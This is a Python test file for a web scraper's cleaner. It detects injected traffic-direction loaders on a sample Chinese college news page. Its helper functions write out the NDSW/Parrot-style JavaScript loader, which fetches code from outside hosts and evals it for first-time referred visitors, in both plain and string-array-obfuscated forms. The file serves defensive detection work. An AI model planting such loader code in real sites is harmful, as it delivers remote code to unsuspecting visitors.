"""A traffic-direction loader appended to a site's own script waits for one visitor: a person a
search engine sends who has no cookies yet (v42 analysis §1 B3/B4, §7.2: the NDSW/Parrot TDS
family — if the referrer is another host and document.cookie is empty, ask a hacked site's PHP
and eval the answer). The sandbox's views all hold the server's session cookie, so the cleaner
runs that visitor once more where one script reads both; the same loader hidden in a rotated
string array runs too. A site's own referrer-aware script that asks its own host, a script that
asks a host the page loads anyway, and one that sends the referrer without running the answer
stay clean."""
from __future__ import annotations

from scraper.clean import clean_page

URL = "http://www.lanshan-college.edu.cn/info/1047/16109.htm"

BODY = ("<p>为响应团省委志愿服务主题活动的号召,我院团委从3月10日开展了志愿服务系列活动。</p>"
        "<p>活动期间,各学院青年志愿者走进社区、敬老院,开展环境整治、关爱老人等服务。</p>"
        "<p>学院团委负责人表示,将持续推动志愿服务常态化,引导青年学生在实践中成长。</p>")

SITE_JS = "function showMenu(id){var m=document.getElementById(id);if(m){m.className='on';}}"


def _page(script: str, head: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>我院开展志愿服务活动-学院新闻网</title>'
            f'{head}</head><body><header><a href="/">学院新闻网</a><nav><a href="/">首页</a>'
            '<a href="/xyxw/">学院新闻</a></nav></header>'
            '<article><h1>我院开展志愿服务活动</h1><div class="info">发布时间：2024-03-15 来源：团委</div>'
            f'<div id="vsb_content">{BODY}</div></article>'
            f'<footer><p>版权所有：学院新闻网</p></footer><script>{script}</script></body></html>').encode()


def _loader(address: str, run: str = "h.eval(v)") -> str:
    """The loader's plain form, its address a constant, appended to the site's script."""
    return (SITE_JS + ";if(qz===undefined){var qz=true,Client=function(){this['get']=function(c,d){var e=new "
            "XMLHttpRequest();e['onreadystatechange']=function(){if(e['readyState']==4&&e['status']==200)"
            "d(e['responseText']);},e['open']('GET',c,true),e['send'](null);};};(function(){var f=document,"
            "h=window,k=f['cookie'],l=h['location']['hostname'],m=h['location']['protocol'],o=f['referrer'];"
            "if(o&&!r(o,l)&&!k){var p=new Client();var u=m+'" + address + "';p['get'](u,function(v){"
            f"r(v,'qzmark')&&({run});}});}}function r(v,x){{return v['indexOf'](x)!==-1;}}}}());}};")


def _rotated_loader(address: str) -> str:
    """The same loader with its names kept in a string array that a loop rotates into place."""
    words = ["referrer", "cookie", "location", "hostname", "protocol", "GET", "open", "send", "readyState",
             "status", "responseText", "indexOf", "eval", "qzmark", "onreadystatechange", address]
    shifted = words[5:] + words[:5]  # as served: rotated; the loop turns it back
    array = ",".join(f"'{w}'" for w in shifted)
    g = "function g(i){return V()[i];}"
    return (SITE_JS + ";if(qz===undefined){function V(){var v=[" + array + "];V=function(){return v;};return V();}"
            + g + "(function(R){var y=R();while(!![]){try{if(g(0)===g(0x0)&&g(0)==='refer'+'rer')break;"
            "else y['push'](y['shift']());}catch(n){y['push'](y['shift']());}}}(V));"
            "var qz=true;(function(){var G=document,O=window,P=G[g(1)],r=O[g(2)][g(3)],I=O[g(2)][g(4)],f=G[g(0)];"
            "if(f&&f[g(11)](r)===-1&&!P){var y=new XMLHttpRequest();y[g(14)]=function(){if(y[g(8)]==4&&y[g(9)]==200"
            "){var E=y[g(10)];E[g(11)](g(13))!==-1&&O[g(12)](E);}};y[g(6)](g(5),I+g(15),!![]);y[g(7)](null);}}());}")


def test_a_loader_for_first_search_visitors_is_spam():
    a = clean_page(_page(_loader("//www.kvtrofont.com/152lo/152lo.php")), url=URL)
    assert a.hijacked and any("kvtrofont.com" in f.evidence for f in a.findings)
    assert "志愿服务常态化" in a.text


def test_the_loader_with_a_token_in_its_address_is_spam():
    token = "'+Math['random']()['toString'](36)['substr'](2)+'"
    a = clean_page(_page(_loader("//centralcollege-x.lk/zeda/zeda.php?id=" + token)), url=URL)
    assert a.hijacked and any("centralcollege-x.lk" in f.evidence for f in a.findings)


def test_the_loader_in_a_rotated_string_array_is_spam():
    a = clean_page(_page(_rotated_loader("//fotoqwerty.com/app/Nav/Nav.php?id=")), url=URL)
    assert a.hijacked and any("fotoqwerty.com" in f.evidence for f in a.findings)


def test_the_same_script_asking_the_site_itself_is_clean():
    a = clean_page(_page(_loader("//www.lanshan-college.edu.cn/api/hot.php")), url=URL)
    assert not a.hijacked


def test_the_same_script_asking_a_host_the_page_loads_is_clean():
    head = '<script src="https://cdn.kvtrofont.com/widget.js"></script>'
    a = clean_page(_page(_loader("//www.kvtrofont.com/152lo/152lo.php"), head=head), url=URL)
    assert not a.hijacked


def test_a_first_visit_request_whose_answer_is_not_run_is_clean():
    a = clean_page(_page(_loader("//stats.kvtrofont.com/hit.php", run="h.console.log(v)")), url=URL)
    assert not a.hijacked
